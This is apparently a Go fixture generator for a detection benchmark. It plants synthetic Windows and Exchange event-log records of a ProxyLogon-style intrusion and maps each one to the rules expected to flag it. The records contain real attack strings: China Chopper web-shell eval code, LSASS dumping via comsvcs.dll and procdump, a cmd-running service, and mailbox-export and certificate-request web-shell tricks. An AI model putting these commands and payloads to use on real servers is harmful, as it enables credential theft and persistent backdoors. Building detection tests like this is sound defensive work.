package main

import (
	"fmt"
	"sort"
	"time"

	"github.com/exsweep/exsweep/internal/evtx/evtxwrite"
)

// plant is one attack event placed at a known time in one file, with the rules expected to
// report it. A plant with gap > 0 writes no event: the file's record numbers jump by gap there.
type plant struct {
	file  string
	at    time.Time
	rules []string
	what  string
	make  func(g *gen) evtxwrite.Event
	gap   uint64
}

const (
	secFile    = "Security.evtx"
	sysmonFile = "Microsoft-Windows-Sysmon%4Operational.evtx"
	sysFile    = "System.evtx"
	appFile    = "Application.evtx"
	psFile     = "Microsoft-Windows-PowerShell%4Operational.evtx"
	mgmtFile   = "MSExchange Management.evtx"
	defFile    = "Microsoft-Windows-Windows Defender%4Operational.evtx"
)

func at(day, h, m, s int) time.Time { return time.Date(2021, 3, day, h, m, s, 0, time.UTC) }

// The planted attack: on 3 March a ProxyLogon-style intrusion (Unified Messaging exploited, the
// OAB virtual directory set to script, pages written into aspnet_client and owa\auth, commands
// from the OWA worker, LSASS dumped twice, a service running cmd, Defender detecting the shell,
// Security records cut out); on 6 March a mailbox-export web shell, a certificate request page,
// a transport agent, the Exchange snap-in in plain PowerShell, and the Security log cleared.
// Page names, paths and parameters are written for this benchmark.
func plants() []plant {
	const (
		shellA  = `C:\inetpub\wwwroot\aspnet_client\system_web\Ks7qPxw2.aspx`
		shellB  = exRoot + `FrontEnd\HttpProxy\owa\auth\OutlookEN.aspx`
		shellC  = `C:\inetpub\wwwroot\aspnet_client\vkxjr.aspx`
		owaPool = "MSExchangeOWAAppPool"
		worker  = "EXS-EVT-PROC-EXCHANGE-WORKER-SHELL"
		lsass   = "EXS-EVT-PROC-LSASS-DUMP"
	)
	chopperURL := `http://ff/#<script language="JScript" runat="server">function Page_Load(){eval(Request.Item["q7"],"unsafe");}</script>`
	sysmonProc := func(image, cmd, parent, parentCmd string) func(g *gen) evtxwrite.Event {
		return func(g *gen) evtxwrite.Event {
			p := &proc{image: image, cmd: lit(cmd), parent: parent, parentCmd: lit(parentCmd), user: system, integrity: "System",
				company: msCorp, product: winProd, description: "", version: winVer}
			return sysEvent(1, sysmonProcessCreate(g, g.start(p)))
		}
	}
	secProc := func(image, cmd, parent string) func(g *gen) evtxwrite.Event {
		return func(g *gen) evtxwrite.Event {
			p := &proc{image: image, cmd: lit(cmd), parent: parent, parentCmd: lit(""), user: system, integrity: "System"}
			return secEvent(4688, security4688(g, g.start(p)))
		}
	}
	fileCreate := func(image, target string) func(g *gen) evtxwrite.Event {
		return func(g *gen) evtxwrite.Event {
			return sysEvent(11, data("RuleName", "-", "UtcTime", utc(g.t), "ProcessGuid", g.guid(), "ProcessId", fmt.Sprint(g.pid()),
				"Image", image, "TargetFilename", target, "CreationUtcTime", utc(g.t), "User", system))
		}
	}
	cmdletPlant := func(id uint16, name, params string) func(g *gen) evtxwrite.Event {
		return func(g *gen) evtxwrite.Event {
			ev := cmdletLog(g, id, name, params, false)
			ev.Data[2].Value = "corp.example.org/Users/Administrator"
			return ev
		}
	}
	return []plant{
		{file: appFile, at: at(3, 2, 31, 2), rules: []string{"EXS-EVT-UM-INVALIDCAST"},
			what: "Unified Messaging error with System.InvalidCastException (CVE-2021-26857)",
			make: func(g *gen) evtxwrite.Event {
				ev, _ := appEvent("MSExchange Unified Messaging", 1040, 2, unnamed("UM worker process "+fmt.Sprint(g.pid()),
					"An unexpected error occurred while processing a voice mail message. System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCore.VoiceMailPipelineContext'.\r\n   at Microsoft.Exchange.UM.UMCore.PipelineDispatcher.Dispatch(String headerFile)"))
				return ev
			}},
		{file: secFile, at: at(3, 2, 33, 5), rules: []string{worker},
			what: "UMWorkerProcess.exe starts net.exe (4688)",
			make: secProc(sys32+"net.exe", `net group "Exchange Trusted Subsystem" /domain`, exBin+"UMWorkerProcess.exe")},
		{file: mgmtFile, at: at(3, 2, 37, 40), rules: []string{"EXS-EVT-CMDLET-VDIR-SCRIPT-FAILED"},
			what: "Set-OabVirtualDirectory with <script in ExternalUrl, failed (event 6)",
			make: cmdletPlant(6, "Set-OabVirtualDirectory", `-Identity "EXCH01\OAB (Default Web Site)" -ExternalUrl "`+chopperURL+`"`)},
		{file: mgmtFile, at: at(3, 2, 38, 12), rules: []string{"EXS-EVT-CMDLET-VDIR-SCRIPT"},
			what: "Set-OabVirtualDirectory with <script in ExternalUrl (CVE-2021-27065)",
			make: cmdletPlant(1, "Set-OabVirtualDirectory", `-ExternalUrl "`+chopperURL+`" -Identity "OAB (Default Web Site)"`)},
		{file: sysmonFile, at: at(3, 2, 38, 44), rules: []string{"EXS-EVT-PAGE-CREATED-SHELL-FOLDER"},
			what: "System creates an .aspx in aspnet_client (Sysmon 11)",
			make: fileCreate("System", shellA)},
		{file: sysmonFile, at: at(3, 2, 39, 51), rules: []string{"EXS-EVT-PAGE-CREATED-AUTH-FOLDER", "EXS-EVT-PAGE-WRITTEN-BY-WORKER"},
			what: "w3wp.exe creates an unknown .aspx in FrontEnd\\HttpProxy\\owa\\auth (Sysmon 11)",
			make: fileCreate(w3wpPath, shellB)},
		{file: sysmonFile, at: at(3, 2, 41, 15), rules: []string{"EXS-EVT-PROC-PAGE-COMPILE"},
			what: "the OWA worker compiles the new page (csc.exe, Sysmon 1)",
			make: sysmonProc(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`,
				`"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\auth\3f1c9a2b\77e0d5c4\outlooken.cmdline"`,
				w3wpPath, w3wpCmd(owaPool))},
		{file: sysmonFile, at: at(3, 2, 44, 10), rules: []string{worker},
			what: "w3wp.exe of MSExchangeOWAAppPool starts cmd.exe /c whoami (Sysmon 1)",
			make: sysmonProc(sys32+"cmd.exe", `cmd.exe /c whoami /all`, w3wpPath, w3wpCmd(owaPool))},
		{file: secFile, at: at(3, 2, 44, 10), rules: []string{worker},
			what: "w3wp.exe starts cmd.exe /c whoami (4688)",
			make: secProc(sys32+"cmd.exe", `cmd.exe /c whoami /all`, w3wpPath)},
		{file: sysmonFile, at: at(3, 2, 44, 11), rules: []string{worker},
			what: "w3wp.exe of MSExchangeOWAAppPool starts whoami.exe (Sysmon 1)",
			make: sysmonProc(sys32+"whoami.exe", `whoami /all`, w3wpPath, w3wpCmd(owaPool))},
		{file: sysmonFile, at: at(3, 3, 2, 30), rules: []string{lsass},
			what: "rundll32 comsvcs.dll MiniDump of LSASS (Sysmon 1)",
			make: sysmonProc(sys32+"rundll32.exe", `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\ProgramData\Temp\mdump.bin full`,
				sys32+"cmd.exe", `cmd.exe /c "cd /d C:\ProgramData\Temp && C:\Windows\System32\rundll32.exe ..."`)},
		{file: secFile, at: at(3, 3, 2, 30), rules: []string{lsass},
			what: "rundll32 comsvcs.dll MiniDump of LSASS (4688)",
			make: secProc(sys32+"rundll32.exe", `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\ProgramData\Temp\mdump.bin full`, sys32+"cmd.exe")},
		{file: defFile, at: at(3, 3, 5, 12), rules: []string{"EXS-EVT-DEFENDER-EXCHANGE-SHELL"},
			what: "Defender 1116 Backdoor:ASP/Chopper on the aspnet_client page",
			make: func(g *gen) evtxwrite.Event {
				return defenderDetection(g, 1116, "Backdoor:ASP/Chopper.F!dha", "5", "Severe", "file:_"+shellA)
			}},
		{file: defFile, at: at(3, 3, 5, 13), rules: []string{"EXS-EVT-DEFENDER-EXCHANGE-SHELL"},
			what: "Defender 1117 (action taken) Backdoor:ASP/Chopper",
			make: func(g *gen) evtxwrite.Event {
				return defenderDetection(g, 1117, "Backdoor:ASP/Chopper.F!dha", "5", "Severe", "file:_"+shellA)
			}},
		{file: sysmonFile, at: at(3, 3, 15, 2), rules: []string{lsass},
			what: "procdump64 -ma lsass.exe from C:\\root (Sysmon 1)",
			make: sysmonProc(`C:\root\procdump64.exe`, `C:\root\procdump64.exe -accepteula -ma lsass.exe C:\root\lsass.dmp`, sys32+"cmd.exe", `cmd.exe /c C:\root\procdump64.exe -accepteula -ma lsass.exe C:\root\lsass.dmp`)},
		{file: sysFile, at: at(3, 3, 20, 44), rules: []string{"EXS-EVT-SERVICE-SHELL", "EXS-EVT-SERVICE-NEW"},
			what: "7045: a new service that runs cmd /c",
			make: func(g *gen) evtxwrite.Event {
				return sysSCM(7045, 4, data("ServiceName", "WinDefendSync", "ImagePath", `%COMSPEC% /Q /c echo net user > \\127.0.0.1\C$\Windows\Temp\o.txt 2>&1 > %TEMP%\run.bat & %TEMP%\run.bat & del %TEMP%\run.bat`,
					"ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"))
			}},
		{file: secFile, at: at(3, 3, 28, 0), gap: 143, rules: []string{"EXS-EVT-RECORD-GAP"},
			what: "143 Security records cut out of the log"},
		{file: mgmtFile, at: at(6, 21, 4, 30), rules: []string{"EXS-EVT-CMDLET-IMPORT-EXPORT-ROLE"},
			what: "New-ManagementRoleAssignment -Role \"Mailbox Import Export\"",
			make: cmdletPlant(1, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "Administrator@example.org"`)},
		{file: mgmtFile, at: at(6, 21, 6, 2), rules: []string{"EXS-EVT-CMDLET-EXPORT-TO-WEB"},
			what: "New-MailboxExportRequest -FilePath \\\\localhost\\c$\\...\\aspnet_client\\*.aspx",
			make: cmdletPlant(1, "New-MailboxExportRequest", `-Mailbox "Administrator@example.org" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq 'inv-0306'" -FilePath "\\localhost\c$\inetpub\wwwroot\aspnet_client\vkxjr.aspx"`)},
		{file: sysmonFile, at: at(6, 21, 6, 20), rules: []string{"EXS-EVT-PAGE-CREATED-SHELL-FOLDER"},
			what: "the mailbox replication service writes the exported .aspx into aspnet_client (Sysmon 11)",
			make: fileCreate(exBin+"MSExchangeMailboxReplication.exe", shellC)},
		{file: mgmtFile, at: at(6, 21, 7, 45), rules: []string{"EXS-EVT-CMDLET-EXPORT-REMOVED"},
			what: "Remove-MailboxExportRequest right after the export",
			make: cmdletPlant(1, "Remove-MailboxExportRequest", `-Identity "Administrator\MailboxExport" -Confirm:$false`)},
		{file: psFile, at: at(6, 21, 15, 10), rules: []string{"EXS-EVT-PS-EXCHANGE-SNAPIN"},
			what: "4104: Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn in plain PowerShell",
			make: func(g *gen) evtxwrite.Event {
				ev, _ := psEvent(4104, 3, data("MessageNumber", "1", "MessageTotal", "1",
					"ScriptBlockText", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\nGet-Mailbox -ResultSize Unlimited | Select-Object PrimarySmtpAddress,Database | Export-Csv C:\\ProgramData\\Temp\\m.csv -NoTypeInformation",
					"ScriptBlockId", "7b0d3e55-2c1a-4f9e-8d6b-1a2b3c4d5e6f", "Path", ""))
				return ev
			}},
		{file: mgmtFile, at: at(6, 21, 20, 0), rules: []string{"EXS-EVT-CMDLET-CERT-REQUEST-WEB"},
			what: "New-ExchangeCertificate -GenerateRequest -RequestFile into owa\\auth through \\\\127.0.0.1\\c$",
			make: cmdletPlant(1, "New-ExchangeCertificate", `-GenerateRequest:$true -SubjectName "cn=<%@ Page Language=Jscript%><%eval(Request.Item[""z""],""unsafe"");%>" -RequestFile "\\127.0.0.1\c$\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\certreq.aspx"`)},
		{file: mgmtFile, at: at(6, 21, 30, 0), rules: []string{"EXS-EVT-CMDLET-TRANSPORT-AGENT"},
			what: "Install-TransportAgent from C:\\ProgramData",
			make: cmdletPlant(1, "Install-TransportAgent", `-Name "Content Routing Agent" -TransportAgentFactory "Routing.Agent.Factory" -AssemblyPath "C:\ProgramData\Microsoft\Network\Routing.Agent.dll"`)},
		{file: secFile, at: at(6, 22, 2, 13), rules: []string{"EXS-EVT-LOG-CLEARED"},
			what: "1102: the Security log cleared",
			make: func(g *gen) evtxwrite.Event {
				return evtxwrite.Event{Provider: "Microsoft-Windows-Eventlog", EventID: 1102, Level: 4, ProcessID: 1204, ThreadID: 5532,
					UserData: &evtxwrite.UserData{Name: "LogFileCleared", Namespace: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
						Fields: data("SubjectUserSid", fmt.Sprintf("%s-500", domainSID), "SubjectUserName", "Administrator", "SubjectDomainName", domain, "SubjectLogonId", "0x5d3c1f2")}}
			}},
	}
}

// plantsByFile groups the plants by file, in time order.
func plantsByFile() map[string][]plant {
	out := map[string][]plant{}
	for _, p := range plants() {
		out[p.file] = append(out[p.file], p)
	}
	for _, ps := range out {
		sort.SliceStable(ps, func(i, j int) bool { return ps[i].at.Before(ps[j].at) })
	}
	return out
}
